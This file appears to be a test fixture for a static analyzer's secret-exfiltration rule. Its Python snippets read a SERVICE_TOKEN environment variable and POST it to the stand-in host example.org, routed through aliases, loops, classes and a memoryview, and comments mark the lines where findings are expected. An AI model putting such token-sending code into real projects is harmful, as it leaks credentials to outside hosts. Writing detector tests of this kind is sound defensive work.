import os

import requests

URL = "https://example.org/"
a = b = []
b.append(os.environ["SERVICE_TOKEN"])
requests.post(URL, json=a)
c = []
d = {}
d["c"] = c
d["c"].append(os.environ["SERVICE_TOKEN"])
requests.post(URL, json=c)
e = []
f = {"e": e, "other": []}
f["e"].append(os.environ["SERVICE_TOKEN"])
requests.post(URL, json=e)
g = []
h, i = g, 1
h.append(os.environ["SERVICE_TOKEN"])
requests.post(URL, json=g)
j = []
k = j if URL else None
k.append(os.environ["SERVICE_TOKEN"])
requests.post(URL, json=j)
l = []
for m in [l]:
    m.append(os.environ["SERVICE_TOKEN"])
requests.post(URL, json=l)
rows = [{"a": 1}]
for row in rows:
    row["token"] = os.environ["SERVICE_TOKEN"]
requests.post(URL, json=rows)
n = []
add = n.append
add(os.environ["SERVICE_TOKEN"])
requests.post(URL, json=n)
o = []


def get():
    return o


get().append(os.environ["SERVICE_TOKEN"])
requests.post(URL, json=o)


class Collector:
    def __init__(self, out):
        self.out = out

    def run(self):
        self.out.append(os.environ["SERVICE_TOKEN"])


p = []
Collector(p).run()
requests.post(URL, json=p)
q = bytearray(100)
memoryview(q)[0:5] = os.environb[b"SERVICE_TOKEN"]
requests.post(URL, data=q)

# nothing secret is sent
r = []
s = r
s.append("x")
t = {"url": URL}
u = t
u["token"] = os.environ["SERVICE_TOKEN"]
requests.post(t["url"], json=r, headers={"Authorization": t["token"]})
requests.post(URL, json=f["other"])
# expect 8 any.secret-sent
# expect 13 any.secret-sent
# expect 17 any.secret-sent
# expect 21 any.secret-sent
# expect 25 any.secret-sent
# expect 29 any.secret-sent
# expect 33 any.secret-sent
# expect 37 any.secret-sent
# expect 46 any.secret-sent
# expect 59 any.secret-sent
# expect 62 any.secret-sent
